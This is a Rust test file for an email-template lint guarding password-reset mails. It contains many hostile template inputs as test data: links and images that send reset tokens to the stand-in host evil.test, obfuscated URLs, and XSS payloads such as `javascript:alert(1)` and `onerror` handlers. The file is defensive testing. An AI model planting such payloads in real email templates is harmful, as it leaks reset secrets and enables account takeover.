//! What the lint says, and that a secret cannot be sent anywhere.

use super::*;
use crate::domain::mail::MailKind;

const LINK: TemplateKind = TemplateKind::Mail(MailKind::PasswordResetLink);
const CODE: TemplateKind = TemplateKind::Mail(MailKind::PasswordResetCode);

fn origins() -> Origins {
    Origins::of([
        "https://id.example.com/reset?x",
        "http://localhost:3000",
        "https://{tenant_name}.example.net/",
        "nothing",
    ])
}

fn read_parts(kind: TemplateKind, parts: &TemplateParts) -> Reading {
    super::read(kind, parts, &origins(), &|_| true)
}

fn html(kind: TemplateKind, html: &str) -> Vec<String> {
    let parts = TemplateParts {
        html: Some(html.to_owned()),
        text: Some("{{actionUrl}}".to_owned()),
        ..TemplateParts::default()
    };
    let parts =
        if kind == CODE { TemplateParts { text: Some("{{verificationCode}}".to_owned()), ..parts } } else { parts };
    codes(&read_parts(kind, &parts))
}

fn text(kind: TemplateKind, text: &str) -> Vec<String> {
    codes(&read_parts(kind, &TemplateParts { text: Some(text.to_owned()), ..TemplateParts::default() }))
}

fn codes(reading: &Reading) -> Vec<String> {
    reading.marks.iter().map(|mark| format!("{}:{} {}", mark.line, mark.column, mark.code)).collect()
}

#[test]
fn a_good_mail_has_no_marks() {
    let good = "<p>Hello {{user.givenName}},</p>\n<a href=\"{{actionUrl}}\" style=\"color:#fff\">Go</a> {{actionUrl}}\n\
        <a href='https://id.example.com/help?for={{application.name}}#top'>Help</a> <img src=\"{{tenant.logoUrl}}\" alt=\"{{tenant.displayName}}\">\n\
        <a href=\"mailto:{{application.supportEmail}}\">{{application.supportEmail}}</a> either/or, 1//2\n\
        {{#if requestedFrom.network}}<a href=\"https://tenant.example.net/\">x</a>{{/if}} <a href=\"#top\">up</a>";
    assert_eq!(html(LINK, good), Vec::<String>::new());
    assert_eq!(text(LINK, "Open {{actionUrl}}. Or see https://id.example.com/help."), Vec::<String>::new());
    assert_eq!(text(CODE, "Code: {{verificationCode}}.\n({{verificationCode}})"), Vec::<String>::new());
}

#[test]
fn a_link_elsewhere_is_an_error_with_its_place() {
    let told = html(LINK, "{{actionUrl}}\n <a href=\"https://evil.test/\">x</a>");
    assert_eq!(told, ["2:5 foreign_link"]);
    assert_eq!(html(LINK, "{{actionUrl}}<a href=\"http://localhost:3000/x\">x</a>"), ["1:17 insecure_link"]);
    assert_eq!(html(LINK, "{{actionUrl}}<a href=\"/x\">x</a>"), ["1:17 relative_link"]);
}

#[test]
fn a_secret_goes_nowhere_else() {
    for bad in [
        "<a href=\"https://evil.test/?t={{actionUrl}}\">x</a>",
        "<a href=\"https://id.example.com/?t={{actionUrl}}\">x</a>",
        "<img src=\"https://evil.test/{{actionUrl}}\">",
        "<img src=\"{{actionUrl}}\">",
        "<img src={{actionUrl}}>",
        "<a href=\"{{actionUrl}}.evil.test\">x</a>",
        "<a href=\"https:{{!}}//evil.test\">x</a>",
        "<a href=\"ht{{!}}tps://evil.test\">x</a>",
        "<a href=\"&#104;ttps&colon;//evil.test\">x</a>",
        "<a href=\"https:&#x2f;&#x2f;evil.test\">x</a>",
        "<a href=\" h\nttps://evil.test\">x</a>",
        "<a href=\"https:\\\\evil.test\">x</a>",
        "<a href=\"https:evil.test\">x</a>",
        "<a href=\"//evil.test\">x</a>",
        "<a href=\"\\/evil.test\">x</a>",
        "<a href=\"https://id.example.com@evil.test\">x</a>",
        "<a href=\"https://id.example.com.evil.test\">x</a>",
        "<a href=\"https://id.example.com:444/\">x</a>",
        "<a href=\"https://{{#if user.email}}id.example.com/?{{/if}}evil.test\">x</a>",
        "<a href=\"{{#if user.email}}https://id.example.com{{/if}}//evil.test\">x</a>",
        "<a href=\"https://{{user.email}}/\">x</a>",
        "<a href=\"{{user.email}}\">x</a>",
        "<a href=\"{{t 'x' a=actionUrl}}\">x</a>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,x\">x</a>",
        "<a href=\"mailto:x@evil.test?body={{actionUrl}}\">x</a>",
        "<a HREF='https://evil.test'>x</a>",
        "<td background=\"https://evil.test/\">",
        "<p style=\"background:url(https://evil.test/)\">",
        "<p style=\"background:url(//evil.test/)\">",
        "<p style=\"background:url(\\68ttps:\\2f\\2f evil.test)\">",
        "<p style=\"color:{{user.givenName}}\">",
        "<style>@import 'https://evil.test/x.css';</style>",
        "<style>p { background: url({{actionUrl}}) }</style>",
        "<!--[if mso]><a href=\"https://evil.test\">x</a><![endif]-->",
        "<script>1</script>",
        "<form action=\"https://id.example.com/\">",
        "<base href=\"https://evil.test/\">",
        "<meta http-equiv=\"Refresh\" content=\"0\">",
        "<p onclick=\"x\">",
        "<a title={{user.givenName}}>x</a>",
        "<a {{user.givenName}}>x</a>",
        "see https://evil.test",
        "see https:&#47;&#47;evil.test",
        "see https://{{user.givenName}}.test",
        "see ftp://id.example.com",
        "see www.evil.test/{{actionUrl}}",
        "see WWW.evil.test now",
        "Ici: <a href=\"https://evil.test/phish\" ",
        "<script src=\"https://evil.test/x\" ",
        "<img src=x onerror=\"alert(1)\" ",
        "<a href=\"{{actionUrl}}",
        "x <",
        "x </p",
        "<!-- x",
        "<!x",
        "<?x",
        "<style>p { color: red }",
        "<textarea>",
        "<noscript><img src=\"//evil.test/x\"></noscript>",
        "<title>x",
        "<p title=\"{{#if user.email}}\">{{/if}}\" onmouseover=\"x\">",
        "{{#if user.email}}<textarea>{{/if}}<img onerror=\"x\">{{#if user.email}}</textarea>{{/if}}",
        "{{#if user.email}}<!--{{else}}x{{/if}}-->",
        "{{#if user.email}}<a href=\"{{/if}}x\">x</a>",
    ] {
        let parts = TemplateParts {
            html: Some(format!("<p>{{{{actionUrl}}}}</p>{bad}")),
            text: Some("{{actionUrl}}".to_owned()),
            ..TemplateParts::default()
        };
        assert!(!read_parts(LINK, &parts).is_fit(), "{bad}");
    }
    for bad in [
        "evil.test/{{verificationCode}}",
        "{{verificationCode}}.evil.test",
        "https://id.example.com/{{verificationCode}}",
        "https://evil.test {{verificationCode}}",
        "//evil.test/?{{verificationCode}}",
        "x@{{verificationCode}}",
        "https://{{#if user.email}}id.example.com/ {{/if}}evil.test {{verificationCode}}",
    ] {
        let parts =
            TemplateParts { text: Some(format!("{{{{verificationCode}}}}\n{bad}")), ..TemplateParts::default() };
        assert!(!read_parts(CODE, &parts).is_fit(), "{bad}");
    }
    assert_eq!(html(CODE, "<a href=\"{{verificationCode}}\">{{verificationCode}}</a>"), ["1:4 secret_in_link"]);
}

#[test]
fn html_that_does_not_end_is_refused_where_it_begins() {
    for (bad, told) in [
        ("{{actionUrl}}\n Ici: <a href=\"https://evil.test/phish\" ", "2:7 not_closed"),
        ("{{actionUrl}} 1 < 2 <b>x</b> <img src=x onerror=\"alert(1)\" ", "1:30 not_closed"),
        ("{{actionUrl}}\n<!-- {{actionUrl}} --", "2:1 not_closed"),
        ("{{actionUrl}}\n<p><style>p {}</p>", "2:4 not_closed"),
        ("{{actionUrl}}\n<p title=\"{{#if user.email}}\">{{/if}}\">x", "2:31 condition_across_tags"),
        ("{{actionUrl}} <", "1:15 not_closed"),
    ] {
        assert_eq!(html(LINK, bad), [told], "{bad}");
    }
    for good in [
        "{{actionUrl}} 1 < 2 &amp",
        "{{actionUrl}} <!-- x --><p title=\"{{#if user.email}}a{{else}}b{{/if}}\">x</p>",
        "<!doctype html><html><head><title>x</title><style>p {}</style></head><p>{{actionUrl}}</p></html>\n",
        "<!--[if mso]>{{#if user.email}}<p>x</p>{{/if}}<![endif]-->{{actionUrl}}",
        "{{#if user.email}}<p>x{{else}}<p>y{{/if}} {{actionUrl}}",
    ] {
        assert_eq!(html(LINK, good), Vec::<String>::new(), "{good}");
    }
    let layout = |layout: &str| {
        let parts = TemplateParts { layout: Some(layout.to_owned()), ..TemplateParts::default() };
        codes(&read_parts(TemplateKind::Layout, &parts))
    };
    assert_eq!(layout("<p>{{{body}}}</p>"), Vec::<String>::new());
    assert_eq!(layout("{{{body}}}\n<img src=\"x"), ["2:1 not_closed"]);
    assert_eq!(layout("<p>x <!-- {{{body}}} -->"), ["1:11 body_in_tag"]);
    assert_eq!(layout("<p title=\"{{{body}}}\">x</p>"), ["1:11 body_in_tag"]);
    assert_eq!(layout("<title>{{{body}}}</title>"), ["1:8 body_in_tag"]);
}

#[test]
fn every_line_of_a_text_has_its_own_place() {
    assert_eq!(text(LINK, "{{actionUrl}}\nb\n https://evil.test/x"), ["3:2 foreign_link"]);
    assert_eq!(
        text(LINK, "ä {{actionUrl}}\r\n(https://evil.test/x) http://evil.test"),
        ["2:2 foreign_link", "2:23 foreign_link"]
    );
    assert_eq!(
        html(LINK, "{{actionUrl}}<style>\np { color: red }\n q { background: url(https://evil.test/) }</style>"),
        ["3:22 foreign_link"]
    );
    assert_eq!(html(LINK, "{{actionUrl}}\n (<b>https://evil.test</b>)"), ["2:6 foreign_link"]);
}

#[test]
fn a_name_that_mail_programs_link_is_a_link() {
    assert_eq!(text(LINK, "{{actionUrl}}\nsee (www.evil.test)."), ["2:6 foreign_link"]);
    assert_eq!(text(LINK, "{{actionUrl}} WWW.Evil.test/x"), ["1:15 foreign_link"]);
    assert_eq!(text(LINK, "{{actionUrl}} www.{{user.email}}"), ["1:15 link_not_fixed"]);
    assert_eq!(html(LINK, "{{actionUrl}} <b>www.evil.test</b>"), ["1:18 foreign_link"]);
    for good in ["evil.test", "awww.x", "www. x", "ada@www.test", "www.example.com, www.example.com."] {
        let origins = Origins::of(["https://www.example.com"]);
        let parts = TemplateParts { text: Some(format!("{{{{actionUrl}}}} {good}")), ..TemplateParts::default() };
        let reading = super::read(LINK, &parts, &origins, &|_| true);
        assert_eq!(codes(&reading), Vec::<String>::new(), "{good}");
    }
}

#[test]
fn lengths_and_missing_parts_are_told() {
    let with = |parts: TemplateParts| codes(&read_parts(LINK, &parts));
    let long = TemplateParts { subject: Some("x".repeat(151)), ..TemplateParts::default() };
    assert_eq!(with(long), ["1:1 subject_too_long"]);
    let lines = TemplateParts { subject: Some("a\nb".to_owned()), ..TemplateParts::default() };
    assert_eq!(with(lines), ["1:2 subject_line_break"]);
    let shown = TemplateParts { subject: Some("{{actionUrl}}".to_owned()), ..TemplateParts::default() };
    assert_eq!(with(shown), ["1:1 secret_in_subject"]);
    let nothing = TemplateParts { subject: Some("  ".to_owned()), ..TemplateParts::default() };
    assert_eq!(with(nothing), ["1:1 empty"]);
    let large = TemplateParts {
        html: Some(format!("{{{{actionUrl}}}}{}", "x".repeat(103 * 1024))),
        ..TemplateParts::default()
    };
    assert_eq!(with(large), ["1:1 text_missing", "1:1 clipped"]);
    assert_eq!(with(TemplateParts::default()), Vec::<String>::new());
}

#[test]
fn mjml_is_read_like_html_and_what_it_adds_too() {
    let mjml = |inner: &str| {
        let source = format!(
            "<mjml><mj-body><mj-section><mj-column>\n<mj-button href=\"{{{{actionUrl}}}}\">Go {{{{actionUrl}}}}</mj-button>{inner}</mj-column></mj-section></mj-body></mjml>"
        );
        let parts =
            TemplateParts { mjml: Some(source), text: Some("{{actionUrl}}".to_owned()), ..TemplateParts::default() };
        read_parts(LINK, &parts)
    };
    let good = mjml("");
    assert_eq!(codes(&good), Vec::<String>::new());
    assert!(good.parts.html.as_ref().is_some_and(|html| html.contains("href=\"{{actionUrl}}\"")));
    assert!(good.compiled.iter().any(|(part, compiled)| *part == Part::Html && compiled.is_document));
    assert_eq!(codes(&mjml("\n<mj-image src=\"https://evil.test/x.png\" />")), ["3:11 foreign_link"]);
    assert_eq!(
        codes(&mjml("<mj-social><mj-social-element name=\"facebook\">x</mj-social-element></mj-social>")),
        ["1:1 foreign_link"]
    );
    assert_eq!(codes(&mjml("\n<mj-tabel></mj-tabel>")), ["3:2 mjml"]);
    assert_eq!(codes(&mjml("\n<mj-text>{{nonsense}}</mj-text>")), ["3:10 unknown_variable"]);
}
